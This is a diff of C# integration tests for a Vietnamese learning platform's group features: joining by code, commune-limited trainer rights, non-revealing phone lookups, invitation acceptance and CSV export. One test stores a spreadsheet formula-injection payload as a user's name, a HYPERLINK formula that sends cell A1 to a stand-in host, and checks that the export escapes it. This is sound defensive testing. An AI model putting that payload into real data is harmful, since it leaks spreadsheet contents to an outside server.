@@ -21,6 +21,18 @@ public sealed partial class GroupsSpec : PlatformSpec
         return (trainer, Guid.Parse(created.Headers.Location!.ToString().Split('/')[^1]));
     }
 
+    /// <summary>The member joins the group themselves with its code, as the trainer's join link lets them.</summary>
+    async Task JoinAsync(Guid group, People.Person member)
+    {
+        string code;
+        using (var scope = Platform.Services.CreateScope())
+        {
+            code = (await scope.ServiceProvider.GetRequiredService<AppDbContext>().Groups.SingleAsync(g => g.Id == group)).JoinCode;
+        }
+        var browser = await Platform.SignedInAs(member);
+        (await browser.SubmitFormAsync($"/join/{code}", [])).StatusCode.Should().Be(HttpStatusCode.Redirect);
+    }
+
     static Task<HttpResponseMessage> Post(HttpClient browser, Guid group, string handler, Dictionary<string, string> fields) =>
         browser.SubmitFormAsync($"/groups/{group}?handler={handler}", fields, $"/groups/{group}");
 
@@ -30,7 +42,7 @@ public sealed partial class GroupsSpec : PlatformSpec
         var quiz = Platform.Services.GetRequiredService<BinhDanHocVuSo.Web.Features.Courses.ICourseCatalogSource>().Current
             .Find("khoa-mau")!.Lessons[0].Quiz!;
         var member = await Platform.CreateAsync();
-        await Post(trainer, group, "AddMember", new() { ["phone"] = member.Phone });
+        await JoinAsync(group, member);
         return async wrongOnFirstQuestion =>
         {
             var answers = Answers.AllRight(quiz).ToDictionary(a => a.Key, a => a.Value);
@@ -54,7 +66,7 @@ public sealed partial class GroupsSpec : PlatformSpec
         var (trainer, group) = await TrainerWithGroup();
         var member = await Platform.CreateAsync();
         var memberBrowser = await Platform.SignedInAs(member);
-        await Post(trainer, group, "AddMember", new() { ["phone"] = member.Phone });
+        await JoinAsync(group, member);
         await Post(trainer, group, "Assign", new() { ["course"] = "khoa-mau", ["due"] = "2026-11-30" });
 
         var before = await trainer.GetStringAsync($"/groups/{group}");
@@ -92,19 +104,32 @@ public sealed partial class GroupsSpec : PlatformSpec
     }
 
     [Fact]
-    public async Task A_co_trainer_added_to_the_group_sees_it()
+    public async Task A_co_trainer_of_the_groups_commune_added_to_the_group_sees_it_and_others_get_one_answer()
     {
         var (trainer, group) = await TrainerWithGroup();
         var coTrainer = await Platform.CreateAsync(Roles.Trainer);
         var learner = await Platform.CreateAsync();
+        var trainerElsewhere = await Platform.CreateAsync(Roles.Trainer, People.OtherCommune);
 
-        var refused = await Post(trainer, group, "AddTrainer", new() { ["phone"] = learner.Phone });
+        var asLearner = await Post(trainer, group, "AddTrainer", new() { ["phone"] = learner.Phone });
+        var asUnknown = await Post(trainer, group, "AddTrainer", new() { ["phone"] = People.NewPhone() });
+        var asElsewhere = await Post(trainer, group, "AddTrainer", new() { ["phone"] = trainerElsewhere.Phone });
         await Post(trainer, group, "AddTrainer", new() { ["phone"] = coTrainer.Phone });
 
-        refused.StatusCode.Should().Be(HttpStatusCode.BadRequest);
-        (await refused.Content.ReadAsStringAsync()).Should().Contain("chưa có vai trò");
+        foreach (var refused in new[] { asLearner, asUnknown, asElsewhere })
+        {
+            refused.StatusCode.Should().Be(HttpStatusCode.BadRequest);
+            Alert(await refused.Content.ReadAsStringAsync()).Should().Be(
+                "Không thêm được: số điện thoại này không phải của một người phụ trách được giao xã, phường của nhóm.");
+        }
         (await (await Platform.SignedInAs(coTrainer)).GetAsync($"/groups/{group}")).StatusCode.Should().Be(HttpStatusCode.OK);
+        (await (await Platform.SignedInAs(trainerElsewhere)).GetAsync($"/groups/{group}")).StatusCode.Should().Be(HttpStatusCode.NotFound);
     }
+
+    static string Alert(string page) => WebUtility.HtmlDecode(AlertPattern().Match(page).Groups[1].Value);
+
+    [GeneratedRegex("role=\"alert\">([^<]*)</p>")]
+    private static partial Regex AlertPattern();
 
     [Fact]
     public async Task A_person_joins_with_the_groups_code_and_unassigning_keeps_their_progress()
@@ -222,5 +247,89 @@ public sealed partial class GroupsSpec : PlatformSpec
 
         page.Should().Contain("5000 thành viên").And.Contain("Trang 1/100").And.Contain("Tỉ lệ hoàn thành: 8");
         Regex.Matches(page, "<td class=\"done\">").Count.Should().BeLessThanOrEqualTo(50);
+    }
+
+    [Fact]
+    public async Task A_trainer_cannot_create_a_group_for_another_commune()
+    {
+        var trainer = await Platform.SignedInAs(await Platform.CreateAsync(Roles.Trainer));
+
+        var form = await trainer.GetStringAsync("/groups");
+        var refused = await trainer.SubmitFormAsync("/groups", new() { ["Name"] = "Tổ xã khác", ["Commune"] = People.OtherCommune });
+
+        form.Should().Contain($"value=\"{People.Commune}\"").And.NotContain($"value=\"{People.OtherCommune}\"");
+        refused.StatusCode.Should().Be(HttpStatusCode.BadRequest);
+        Alert(await refused.Content.ReadAsStringAsync()).Should().Be("Bạn chỉ được tạo nhóm ở xã, phường mà quản trị viên đã giao cho bạn.");
+        using var scope = Platform.Services.CreateScope();
+        (await scope.ServiceProvider.GetRequiredService<AppDbContext>().Groups.CountAsync()).Should().Be(0);
+    }
+
+    [Fact]
+    public async Task Adding_a_member_by_phone_does_not_reveal_whether_the_number_has_an_account()
+    {
+        var (trainer, group) = await TrainerWithGroup();
+        var registered = await Platform.CreateAsync();
+        var unknown = People.NewPhone();
+
+        var toRegistered = await Post(trainer, group, "AddMember", new() { ["phone"] = registered.Phone });
+        var toUnknown = await Post(trainer, group, "AddMember", new() { ["phone"] = unknown });
+        var again = await Post(trainer, group, "AddMember", new() { ["phone"] = registered.Phone });
+
+        string Answer(string page, string phone) => Alert(page).Replace(PhoneNumber.Display(phone), "…", StringComparison.Ordinal);
+        var answers = new[]
+        {
+            Answer(await toRegistered.Content.ReadAsStringAsync(), registered.Phone),
+            Answer(await toUnknown.Content.ReadAsStringAsync(), unknown),
+            Answer(await again.Content.ReadAsStringAsync(), registered.Phone),
+        };
+        new[] { toRegistered.StatusCode, toUnknown.StatusCode, again.StatusCode }.Should().OnlyContain(c => c == HttpStatusCode.OK);
+        answers.Should().OnlyContain(a => a == answers[0]);
+        answers[0].Should().StartWith("Nếu số … có tài khoản").And.Contain("/join/");
+    }
+
+    [Fact]
+    public async Task A_citizen_is_not_added_to_a_group_without_accepting()
+    {
+        var (trainer, group) = await TrainerWithGroup();
+        var citizen = await Platform.CreateAsync();
+        var elsewhere = await Platform.CreateAsync(commune: People.OtherCommune);
+
+        await Post(trainer, group, "AddMember", new() { ["phone"] = citizen.Phone });
+        await Post(trainer, group, "AddMember", new() { ["phone"] = elsewhere.Phone });
+        var invitedPage = await trainer.GetStringAsync($"/groups/{group}");
+        var citizenBrowser = await Platform.SignedInAs(citizen);
+        var invitations = await citizenBrowser.GetStringAsync("/join");
+        var elsewhereInvitations = await (await Platform.SignedInAs(elsewhere)).GetStringAsync("/join");
+        var accepted = await citizenBrowser.SubmitFormAsync($"/join?handler=Accept&group={group}", [], "/join");
+
+        invitedPage.Should().Contain("0 thành viên", "an invitation is not a membership");
+        invitations.Should().Contain("Bạn được mời vào nhóm &quot;Tổ 1 thôn Nà Vài&quot;");
+        elsewhereInvitations.Should().NotContain("Tổ 1 thôn Nà Vài", "a trainer invites only people of the communes assigned to them");
+        accepted.StatusCode.Should().Be(HttpStatusCode.Redirect);
+        (await trainer.GetStringAsync($"/groups/{group}")).Should().Contain("1 thành viên");
+        using var scope = Platform.Services.CreateScope();
+        var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
+        (await db.GroupMembers.Where(m => m.GroupId == group).Select(m => m.LearnerId).ToListAsync()).Should().Equal(citizen.Id);
+        (await db.GroupInvitations.CountAsync()).Should().Be(0, "the accepted invitation is used up and the other was never made");
+    }
+
+    [Fact]
+    public async Task A_member_named_like_a_formula_is_exported_to_csv_as_text()
+    {
+        var (trainer, group) = await TrainerWithGroup();
+        var member = await Platform.CreateAsync();
+        using (var scope = Platform.Services.CreateScope())
+        {
+            var db = scope.ServiceProvider.GetRequiredService<AppDbContext>();
+            var user = await db.Users.SingleAsync(u => u.Id == member.Id);
+            user.FullName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")";
+            await db.SaveChangesAsync();
+        }
+        await JoinAsync(group, member);
+
+        var csv = await trainer.GetStringAsync($"/groups/{group}?handler=export&format=csv");
+
+        csv.Should().Contain("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Bấm\"\")\"");
+        csv.Should().NotContain(",=HYPERLINK").And.NotContain("\n=HYPERLINK");
     }
 }
